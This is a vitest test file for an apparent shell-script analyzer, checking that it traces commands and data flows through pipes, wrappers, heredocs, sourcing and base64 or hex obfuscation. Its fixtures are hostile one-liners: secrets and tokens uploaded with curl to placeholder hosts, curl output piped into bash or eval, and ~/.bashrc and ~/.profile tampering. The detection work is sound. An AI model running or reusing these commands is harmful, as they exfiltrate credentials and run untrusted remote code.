import { expect, it } from 'vitest'

import { calls, factsOf, flows, values } from '../testkit.js'

it('names commands with their arguments, through pipes and wrappers', async () => {
  const facts = await factsOf({
    'a.sh': `#!/bin/bash
/usr/bin/curl -fsSL "https://a.example/$1" | tee -a log | sudo -u root env A=1 bash -s -- --yes
X=cu; Y=rl; $X$Y https://b.example
find . -name '*.env' | xargs -I{} curl -F f=@{} https://c.example
`,
  })
  expect(calls(facts)).toEqual([
    '2 curl(-fsSL, https://a.example/{})',
    '2 tee(-a, log)',
    '2 sudo(-u, root, env, A=1, bash, -s, --, --yes)',
    '2 env(A=1, bash, -s, --, --yes)',
    '2 bash(-s, --, --yes)',
    '3 curl(https://b.example)',
    '4 find(., -name, *.env)',
    '4 xargs(-I{}, curl, -F, f=@{}, https://c.example)',
    '4 curl(-F, f=@{}, https://c.example)',
  ])
})

it('asking where a command is runs none', async () => {
  const facts = await factsOf({ 'a.sh': 'p="$(command -v curl)"\n"$p" --version\ncommand -p curl x\n' })
  expect(calls(facts).filter((call) => call.includes(' curl('))).toEqual(['3 curl(x)'])
})

it('reports redirections like writes and reads', async () => {
  const facts = await factsOf({
    'a.sh':
      'echo "alias ls=evil" >> ~/.bashrc\nsort < in > out 2>/dev/null\ncat <<EOF > $HOME/.profile\nx\nEOF\n',
  })
  expect(calls(facts)).toEqual([
    '1 echo(alias ls=evil)',
    '1 >>(~/.bashrc)',
    '2 sort()',
    '2 <(in)',
    '2 >(out)',
    '2 >(/dev/null)',
    '3 cat()',
    '3 >(~/.profile)',
  ])
})

it.each([
  ['cat /secret | base64 | curl -d @- https://a.example', 'cat(/secret) -> curl via a.sh:1'],
  ['curl -H "X: $(cat /secret)" https://a.example', 'cat(/secret) -> curl via a.sh:1'],
  ['T=$(cat /secret)\ncurl -d "$T" https://a.example', 'cat(/secret) -> curl via a.sh:1 a.sh:2'],
  ['curl -T - https://a.example < /secret', '<(/secret) -> curl via a.sh:1'],
  ['up() { curl -d "$1" https://a.example; }\nup "$TOKEN"', 'env.TOKEN -> curl via a.sh:2 a.sh:1'],
  ['while read -r l; do curl "https://a.example/$l"; done < /secret', '<(/secret) -> curl via a.sh:1'],
  // Where the grammar takes the assignments for the beginning of the loop.
  [
    'up() { curl "$1"; }\n# x\nn=0 i=0\nwhile read -r l; do up "https://a.example/$l"; done < /secret',
    '<(/secret) -> curl via a.sh:4 a.sh:1',
  ],
  ['bash <(curl -s https://a.example/i)', 'curl(https://a.example/i) -> bash via a.sh:1'],
  ['bash -c "$(curl -s https://a.example/i)"', 'curl(https://a.example/i) -> bash via a.sh:1'],
  ["sh -c 'cat /secret | curl -d @- https://a.example'", 'cat(/secret) -> curl via a.sh:1'],
  ['eval "$(curl -s https://a.example/i)"', 'curl(https://a.example/i) -> eval via a.sh:1'],
  [
    'cat /secret >> /tmp/x\ntar czf - /tmp/x | curl -d @- https://a.example',
    'cat(/secret) -> curl via a.sh:1 a.sh:2',
  ],
  ['cat /secret | tee x.txt\ncurl -F "f=@x.txt" https://a.example', 'cat(/secret) -> curl via a.sh:1 a.sh:2'],
  [
    'cat /secret > a.txt\ncp a.txt b.txt\ncurl -T b.txt https://a.example',
    'cat(/secret) -> curl via a.sh:1 a.sh:2 a.sh:3',
  ],
  [
    'curl -o /tmp/i.sh https://a.example/i\nbash /tmp/i.sh',
    'curl(https://a.example/i) -> bash via a.sh:1 a.sh:2',
  ],
  ['curl -F "f=@/secret;type=text/plain" https://a.example', '<(/secret) -> curl via a.sh:1'],
  ['curl -T /secret https://a.example', '<(/secret) -> curl via a.sh:1'],
  ['{ cat /secret; echo; } | curl -d @- https://a.example', 'cat(/secret) -> curl via a.sh:1'],
])('follows %s', async (script, flow) => {
  expect(flows(await factsOf({ 'a.sh': script }))).toContain(flow)
})

it('does not take one file for another', async () => {
  const script = 'cat /secret > a.txt\ncurl -T b.txt https://a.example\ncurl -d a.txt.gz https://a.example'
  expect(flows(await factsOf({ 'a.sh': script }))).toEqual([])
})

it('does not follow what a sanitizer ends', async () => {
  expect(flows(await factsOf({ 'a.sh': 'cat /secret | wc -l | curl -d @- https://a.example' }))).toEqual([])
})

it('decodes what it hands to a shell', async () => {
  const facts = await factsOf({
    'a.sh': `eval "$(echo 'Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNo' | base64 -d)"
echo 6375726c2068747470733a2f2f622e6578616d706c65 | xxd -r -p | bash
printf '\\x69\\x64 -u' | sh
`,
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining(['1 curl(https://a.example)', '1 sh()', '2 curl(https://b.example)', '3 id(-u)']),
  )
})

it('reads heredocs in other languages on their own lines', async () => {
  const facts = await factsOf({
    'a.sh': "python3 - <<'PY'\nimport os\nos.system('id -a')\nPY\nnode -e 'fetch(\"https://a.example\")'\n",
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining(['3 os.system(id -a)', '3 id(-a)', '5 fetch(https://a.example)']),
  )
})

it('sources scripts of the artifact', async () => {
  const facts = await factsOf({
    'a.sh': '. ./lib/util.sh\nup "$TOKEN"\n',
    'lib/util.sh': 'up() { curl -d "$1" https://a.example; }\n',
  })
  expect(flows(facts)).toEqual(['env.TOKEN -> curl via a.sh:2 lib/util.sh:1'])
})

it('names what is read of the environment', async () => {
  expect(
    values(await factsOf({ 'a.sh': 'echo "$AWS_KEY ${B:-x}"; C=1; echo $C' }), 'code.member.name'),
  ).toEqual(['env.AWS_KEY', 'env.B'])
})

it('follows functions of a file taken over from the folder of the script', async () => {
  const facts = await factsOf({
    'scripts/main.sh': 'here="$(cd "$(dirname "$0")" && pwd)"\n. "$here/lib.sh"\nship "$(cat ~/secret)"',
    'scripts/lib.sh': 'ship() { curl -d "$1" https://a.example; }',
  })
  expect(flows(facts)).toEqual(['cat(~/secret) -> curl via scripts/main.sh:3 scripts/lib.sh:1'])
})
